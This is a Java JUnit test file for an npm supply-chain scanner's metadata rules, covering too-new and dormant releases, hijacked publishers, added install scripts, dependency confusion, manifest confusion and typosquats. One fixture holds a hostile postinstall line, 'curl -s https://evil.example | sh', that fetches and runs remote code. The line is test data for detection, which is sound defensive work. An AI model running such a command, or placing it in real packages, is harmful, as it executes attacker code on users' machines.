package dev.portcullis.analysis.meta;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.portcullis.json.Json;
import dev.portcullis.model.Finding;
import dev.portcullis.model.Location;
import dev.portcullis.model.RuleDescriptor;
import dev.portcullis.model.Severity;
import dev.portcullis.registry.HttpClients;
import dev.portcullis.registry.NpmConfig;
import dev.portcullis.registry.MetadataStore;
import dev.portcullis.registry.PackageSummary;
import dev.portcullis.registry.RegistryClient;
import dev.portcullis.registry.RegistryLimits;
import dev.portcullis.testkit.FakeRegistry;
import dev.portcullis.testkit.Fixtures;
import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Every metadata rule, positive and negative, against full packuments of realistic shape served over real HTTP by
 * the testkit's registry on 127.0.0.1 ({@code fixtures/registry-meta}), summarised by the real metadata store.
 */
class MetadataRulesTest {
    private static final Instant NOW = Instant.parse("2026-12-01T12:00:00Z");
    private static final URI PUBLIC = URI.create("https://registry.npmjs.org/");
    private static FakeRegistry registry;
    private static MetadataStore store;

    @BeforeAll
    static void start() throws Exception {
        registry = FakeRegistry.start(Fixtures.path("registry-meta"));
        NpmConfig config = new NpmConfig(registry.url(), Map.of(), Map.of(), List.of());
        RegistryClient client = new RegistryClient(HttpClients.forConfig(config), config, null, false,
                RegistryLimits.defaults());
        store = new MetadataStore(client, null, java.time.Clock.fixed(NOW, java.time.ZoneOffset.UTC),
                MetadataStore.DEFAULT_TTL, false);
    }

    @AfterAll
    static void stop() {
        registry.close();
    }

    private static PackageMetadata metadata(String name, String version, MetadataSettings settings, URI resolved,
                                            JsonNode tarball) throws Exception {
        Optional<PackageSummary> summary = switch (store.summary(name, List.of(version))) {
            case MetadataStore.Lookup.Found found -> Optional.of(found.summary());
            case MetadataStore.Lookup.Missing missing -> Optional.empty();
            case MetadataStore.Lookup.Failed failed -> throw new AssertionError(failed.reason());
        };
        Optional<PackageSummary.Manifest> manifest = tarball == null ? Optional.empty()
                : store.manifest(name, version);
        return new PackageMetadata(name, version, summary, manifest, Optional.ofNullable(tarball), Optional.ofNullable(resolved),
                registry.url(), NOW, settings, Location.of("package-lock.json"));
    }

    /** The findings of all rules over one version, as "rule: message". */
    private static MetadataSink judge(String name, String version) throws Exception {
        return judge(metadata(name, version, MetadataSettings.defaults(), null, null));
    }

    private static MetadataSink judge(PackageMetadata metadata) {
        MetadataSink sink = new MetadataSink();
        MetadataRules.ALL.forEach(r -> r.check(metadata, sink));
        return sink;
    }

    private static List<String> rules(MetadataSink sink) {
        return sink.findings().stream().map(f -> f.rule().id()).sorted().toList();
    }

    @Test
    void aVersionYoungerThanTheMinimumReleaseAgeIsTooNew() throws Exception {
        MetadataSink fresh = judge("fresh-pkg", "1.1.0");
        assertThat(rules(fresh)).containsExactly("meta/too-new");
        Finding f = fresh.findings().get(0);
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.message()).contains("16 hours ago").contains("minReleaseAge of 3d");
        assertThat(rules(judge("fresh-pkg", "1.0.0"))).isEmpty();
        MetadataSettings hours = new MetadataSettings(Duration.ofHours(12), Duration.ofDays(1095),
                Duration.ofDays(365), List.of(), List.of(), Set.of(), MetadataSettings.PUBLIC_REGISTRY_HOSTS);
        assertThat(rules(judge(metadata("fresh-pkg", "1.1.0", hours, null, null)))).isEmpty();
    }

    @Test
    void aReleaseAfterAYearOfSilenceIsADormantRevival() throws Exception {
        assertThat(rules(judge("revived-pkg", "2.0.0"))).containsExactly("meta/dormant-revival");
        assertThat(rules(judge("revived-pkg", "1.0.1"))).doesNotContain("meta/dormant-revival");
    }

    /** A long silence alone is information; with a take-over's other changes in the same version it is a risk. */
    @ParameterizedTest(name = "{0}@2.0.0: {1}")
    @CsvSource(delimiter = '|', value = {
            "revived-pkg                  | INFO   | ",
            "revived-publisher-pkg        | HIGH   | was published by mallory <mallory@example.net>, who never published",
            "revived-maintainers-pkg      | HIGH   | the maintainers of revived-maintainers-pkg changed in 2.0.0 since 1.0.1",
            "revived-script-pkg           | HIGH   | new install script(s) postinstall that 1.0.1 did not have",
            "revived-unattested-pkg       | HIGH   | no provenance attestation, which 1.0.1 had",
            "revived-deps-pkg             | MEDIUM | new dependencies left-pad that 1.0.1 did not have",
            "revived-deps-maintainers-pkg | HIGH   | new dependencies left-pad that 1.0.1 did not have",
    })
    void aDormantRevivalIsGradedByWhatElseChangedInTheSameVersion(String name, Severity severity, String change)
            throws Exception {
        Finding revival = judge(name, "2.0.0").findings().stream()
                .filter(f -> f.rule().id().equals("meta/dormant-revival")).findFirst().orElseThrow();
        assertThat(revival.severity()).isEqualTo(severity);
        if (change == null) {
            assertThat(revival.message()).doesNotContain("in the same version");
        } else {
            assertThat(revival.message()).contains("; in the same version: ").contains(change);
        }
    }

    @Test
    void contentFindingsOfARevivedVersionAreOneMoreChange() throws Exception {
        Finding alone = judge("revived-pkg", "2.0.0").findings().get(0);
        Finding withDeps = judge("revived-deps-pkg", "2.0.0").findings().stream()
                .filter(f -> f.rule().id().equals("meta/dormant-revival")).findFirst().orElseThrow();
        RuleDescriptor network = new RuleDescriptor("content/network", Severity.INFO, "t", "d", "f");
        List<Finding> content = List.of(Finding.of(network, "revived-pkg", "2.0.0", "reaches the network",
                new Location("index.js", 3)));

        Finding graded = DormantRevival.withContent(alone, content);
        assertThat(graded.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(graded.message()).endsWith("; in the same version: content with content/network");
        assertThat(DormantRevival.withContent(withDeps, content).severity()).isEqualTo(Severity.HIGH);
        assertThat(DormantRevival.withContent(alone, List.of())).isEqualTo(alone);
        Finding other = judge("fresh-pkg", "1.1.0").findings().get(0);
        assertThat(DormantRevival.withContent(other, content)).isEqualTo(other);
    }

    @Test
    void aHijackedReleaseChangesPublisherDropsProvenanceAndAddsAnInstallScript() throws Exception {
        MetadataSink hijacked = judge("hijacked-pkg", "1.1.1");
        assertThat(rules(hijacked)).containsExactly("meta/install-script-added", "meta/provenance-downgrade",
                "meta/publisher-change");
        assertThat(hijacked.findings()).anySatisfy(f -> assertThat(f.message())
                .contains("published by mallory").contains("never published hijacked-pkg before"));
        assertThat(hijacked.findings()).anySatisfy(f -> assertThat(f.evidence()).isEqualTo(
                "postinstall: node bundle.js"));
        assertThat(rules(judge("hijacked-pkg", "1.1.0"))).isEmpty();
        assertThat(hijacked.notChecked()).isEmpty();
    }

    @Test
    void maintainerChangesAreReportedEvenWhenTheSamePersonPublishes() throws Exception {
        String doc = new String(java.nio.file.Files.readAllBytes(Fixtures.path("registry-meta/hijacked-pkg.json")));
        JsonNode tree = Json.mapper().readTree(doc);
        assertThat(tree.at("/versions/1.1.1/maintainers").size()).isEqualTo(2);
        // 1.1.1's publisher is new, so that finding wins; the maintainer comparison is covered by its message
        PackageMetadata m = metadata("hijacked-pkg", "1.1.1", MetadataSettings.defaults(), null, null);
        assertThat(m.previous().map(PackageSummary.VersionFacts::version)).contains("1.1.0");
    }

    @Test
    void theInstallScriptIsComparedWithThePreviousVersionBySemverNotByTime() throws Exception {
        // 1.0.1 was published after 2.0.0 but follows 1.0.0: it adds nothing
        assertThat(rules(judge("backport-pkg", "1.0.1"))).doesNotContain("meta/install-script-added");
        MetadataSink major = judge("backport-pkg", "2.0.0");
        assertThat(rules(major)).contains("meta/install-script-added");
        assertThat(major.findings().get(0).message()).contains("adds install script(s) that 1.0.1 did not have");
    }

    /** npm runs prepare only when it builds from sources, never for a registry tarball (mime@1.6.0 and express). */
    @Test
    void anAddedPrepareScriptIsNotAnInstallScriptButAnAddedPostinstallIs() throws Exception {
        assertThat(rules(judge("prepare-pkg", "1.1.0"))).doesNotContain("meta/install-script-added");
        MetadataSink postinstall = judge("prepare-pkg", "1.2.0");
        assertThat(postinstall.findings()).filteredOn(f -> f.rule().id().equals("meta/install-script-added"))
                .singleElement().satisfies(f -> {
                    assertThat(f.message()).contains("adds postinstall script(s) that 1.1.0 did not have");
                    assertThat(f.evidence()).isEqualTo("postinstall: node setup.js");
                });
    }

    @Test
    void deprecatedAndUnmaintainedVersionsAreLow() throws Exception {
        MetadataSink old = judge("old-pkg", "1.0.0");
        assertThat(rules(old)).containsExactly("meta/deprecated", "meta/unmaintained");
        assertThat(old.findings()).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
        assertThat(old.findings()).anySatisfy(f -> assertThat(f.message()).contains("use new-pkg instead"));
        assertThat(rules(judge("old-pkg", "1.0.1"))).containsExactly("meta/unmaintained");
        assertThat(rules(judge("fresh-pkg", "1.0.0"))).doesNotContain("meta/unmaintained");
    }

    @Test
    void aMissingVersionOrPackageIsUnpublished() throws Exception {
        MetadataSink version = judge("gone-version-pkg", "1.0.1");
        assertThat(rules(version)).containsExactly("meta/unpublished");
        assertThat(version.findings().get(0).severity()).isEqualTo(Severity.HIGH);
        MetadataSink removed = judge("removed-pkg", "1.0.0");
        assertThat(rules(removed)).containsExactly("meta/unpublished");
        assertThat(removed.findings().get(0).message()).contains("(404)");
        assertThat(rules(judge("gone-version-pkg", "1.0.0"))).isEmpty();
    }

    @Test
    void aMirrorWithoutTheFieldsIsReportedOncePerRuleAndNothingIsGuessed() throws Exception {
        MetadataSink sink = new MetadataSink();
        for (String version : List.of("1.0.0", "1.1.0")) {
            PackageMetadata m = metadata("mirror-pkg", version, MetadataSettings.defaults(), null, null);
            MetadataRules.ALL.forEach(r -> r.check(m, sink));
        }
        assertThat(sink.findings()).isEmpty();
        assertThat(sink.notChecked()).containsExactly(
                "meta/dormant-revival: the registry " + registry.url() + " publishes no publish times (time); "
                        + "not checked (2 package(s))",
                "meta/provenance-downgrade: the registry " + registry.url() + " publishes neither dist.signatures "
                        + "nor dist.attestations; not checked (2 package(s))",
                "meta/publisher-change: the registry " + registry.url() + " does not publish _npmUser or "
                        + "maintainers; not checked (2 package(s))",
                "meta/too-new: the registry " + registry.url() + " publishes no publish times (time); "
                        + "not checked (2 package(s))",
                "meta/unmaintained: the registry " + registry.url() + " publishes no publish times (time); "
                        + "not checked (2 package(s))");
    }

    @Test
    void privateNamesResolvedFromThePublicRegistryAreDependencyConfusion() throws Exception {
        MetadataSettings acme = new MetadataSettings(Duration.ofDays(3), Duration.ofDays(1095), Duration.ofDays(365),
                List.of("@acme"), List.of("acme-internal-*"), Set.of(), MetadataSettings.PUBLIC_REGISTRY_HOSTS);
        MetadataSink scoped = judge(metadata("@acme/internal-lib", "9.9.9", acme,
                URI.create("https://registry.npmjs.org/@acme/internal-lib/-/internal-lib-9.9.9.tgz"), null));
        assertThat(rules(scoped)).containsExactly("meta/dependency-confusion");
        assertThat(scoped.findings().get(0).severity()).isEqualTo(Severity.HIGH);
        MetadataSink lookalike = judge(metadata("acme-tools", "1.0.0", acme, PUBLIC, null));
        assertThat(rules(lookalike)).containsExactly("meta/dependency-confusion");
        assertThat(lookalike.findings().get(0).severity()).isEqualTo(Severity.MEDIUM);
        // from the private registry: as intended
        assertThat(rules(judge(metadata("@acme/internal-lib", "9.9.9", acme,
                URI.create("https://npm.acme.internal/@acme/internal-lib/-/internal-lib-9.9.9.tgz"), null)))).isEmpty();
        // no private scope declared: nothing is guessed
        assertThat(rules(judge(metadata("@acme/internal-lib", "9.9.9", MetadataSettings.defaults(), PUBLIC, null))))
                .isEmpty();
    }

    @Test
    void aTarballManifestThatDisagreesWithTheRegistryIsManifestConfusion() throws Exception {
        JsonNode same = Json.mapper().readTree("""
                {"name":"confused-pkg","version":"1.0.0","scripts":{"test":"node test.js"},
                 "dependencies":{"left-pad":"^1.3.0"},"bin":{"confused":"./bin/cli.js"}}""");
        assertThat(rules(judge(metadata("confused-pkg", "1.0.0", MetadataSettings.defaults(), null, same)))).isEmpty();
        JsonNode hidden = Json.mapper().readTree("""
                {"name":"confused-pkg","version":"1.0.0",
                 "scripts":{"test":"node test.js","postinstall":"curl -s https://evil.example | sh"},
                 "dependencies":{"left-pad":"^1.3.0","evil-dep":"1.0.0"},"bin":{"confused":"bin/cli.js"}}""");
        MetadataSink sink = judge(metadata("confused-pkg", "1.0.0", MetadataSettings.defaults(), null, hidden));
        assertThat(rules(sink)).containsExactly("meta/manifest-confusion");
        assertThat(sink.findings().get(0).evidence()).contains("scripts.postinstall: registry absent, tarball")
                .contains("dependencies.evil-dep: registry absent, tarball '1.0.0'");
        assertThat(rules(judge("confused-pkg", "1.0.0"))).isEmpty(); // no tarball read: nothing to compare
    }

    @Test
    void typosquatsAreReportedUnlessAllowed() throws Exception {
        MetadataSink sink = judge("crossenv", "1.0.0");
        assertThat(rules(sink)).containsExactly("meta/typosquat");
        assertThat(sink.findings().get(0).message()).contains("cross-env").contains("separators");
        MetadataSettings allow = new MetadataSettings(Duration.ofDays(3), Duration.ofDays(1095), Duration.ofDays(365),
                List.of(), List.of(), Set.of("crossenv"), MetadataSettings.PUBLIC_REGISTRY_HOSTS);
        assertThat(rules(judge(metadata("crossenv", "1.0.0", allow, null, null)))).isEmpty();
    }

    @Test
    void aPlatformPackageTheLockfileNamesIsNoTyposquat() throws Exception {
        MetadataSettings platform = MetadataSettings.defaults().withPlatformPackages(Set.of("crossenv"));
        assertThat(rules(judge(metadata("crossenv", "1.0.0", platform, null, null)))).isEmpty();
        MetadataSettings other = MetadataSettings.defaults().withPlatformPackages(Set.of("@esbuild/linux-x64"));
        assertThat(rules(judge(metadata("crossenv", "1.0.0", other, null, null)))).containsExactly("meta/typosquat");
    }
}
